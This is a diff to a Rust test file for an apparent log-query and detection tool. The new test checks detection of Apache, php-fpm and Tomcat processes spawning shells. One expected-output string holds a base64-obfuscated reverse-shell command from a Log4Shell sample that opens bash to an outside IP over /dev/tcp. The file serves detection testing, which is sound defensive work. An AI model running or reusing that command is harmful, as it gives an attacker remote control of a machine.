@@ -53,3 +53,36 @@ fn proxylogon_w3wp_whoami_from_sysmon_and_security_4688_read_from_the_zip() {
     assert!(text.contains("{\"EventID\":\"1\",\"_count\":2}"), "{text}");
     assert!(text.contains("{\"EventID\":\"4688\",\"_count\":2}"), "{text}");
 }
+
+fn query(q: &str, input: &str) -> String {
+    let out = Command::new(BIN).args(["run", "-q", "-o", "ndjson", "-e", q, input]).output().expect("run");
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+#[test]
+fn linux_web_servers_spawning_shells() {
+    // auditd: apache2 and php-fpm workers running sh (the seed's test 4).
+    let log = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/read/auditd/apache_sh.log");
+    let q =
+        "#event_simpleName=ProcessRollup2 event_platform=Lin | groupBy([ParentBaseFileName, FileName, CommandLine])";
+    let out = query(q, log);
+    assert!(
+        out.contains(r#"{"ParentBaseFileName":"apache2","FileName":"dash","CommandLine":"/bin/sh -c id","_count":1}"#),
+        "{out}"
+    );
+    assert!(
+        out.contains(
+            r#"{"ParentBaseFileName":"php-fpm8.2","FileName":"dash","CommandLine":"sh -c id & uname -a","_count":1}"#
+        ),
+        "{out}"
+    );
+    // Log4Shell, Sysmon for Linux in syslog: Tomcat's java spawning bash (the record was cut by
+    // syslog; its fields before the cut are kept).
+    let zip = format!("{SD}/compound/Log4Shell/syslog_sysmon_log4shell_cve2021_44228_jndi_reference.zip");
+    let out = query("#event_simpleName=ProcessRollup2 ParentBaseFileName=java | groupBy([ComputerName, FileName, UserName, CommandLine])", &zip);
+    assert!(
+        out.contains(r#"{"ComputerName":"UBUNTU5","FileName":"bash","UserName":"tomcat","CommandLine":"bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}","_count":1}"#),
+        "{out}"
+    );
+}
